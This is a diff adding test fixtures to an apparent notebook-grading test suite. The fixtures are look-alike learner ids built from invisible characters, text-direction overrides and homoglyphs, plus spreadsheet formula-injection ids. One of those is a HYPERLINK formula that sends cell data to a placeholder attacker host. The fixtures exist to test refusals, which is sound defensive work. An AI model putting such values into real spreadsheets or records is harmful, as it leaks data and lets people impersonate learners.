@@ -263,3 +263,24 @@ SYMLINKED_SUBMISSIONS = {
     "dan": ("dan.ipynb", "ada/basic.ipynb"),  # <learner>.ipynb layout
     "eve": ("eve/basic", "../ada"),  # nbgrader layout: <learner>/<assignment>/ is a link
 }
+
+# Learner folder names that display like another learner's (``ada`` and ``ace`` exist too)
+# -> what the recorded refusal says.
+LOOK_ALIKE_IDS = {
+    "ada\u200b": "invisible",  # a zero-width space
+    "ada\u202e": "text-direction",  # a right-to-left override
+    "\u0430da": "mixes Cyrillic and Latin letters",  # a Cyrillic a
+    "\uff41\uff44\uff41": "looks like learner 'ada'",  # fullwidth: 'ada' once normalised
+    "\u0430\u0441\u0435": "looks like learner 'ace'",  # all Cyrillic
+}
+# Learner ids that a spreadsheet would run as formulas (OWASP CSV injection).
+FORMULA_IDS = (
+    '=HYPERLINK("evil.example?"&A1,"grades")',
+    "+1+2",
+    "-3+4",
+    "@SUM(1,2)",
+    "\t=1+2",
+    "\r=1+2",
+    "\uff1d1+2",  # a fullwidth equals sign
+    "ada\r=1+2",  # a carriage return starting a new row of its own
+)
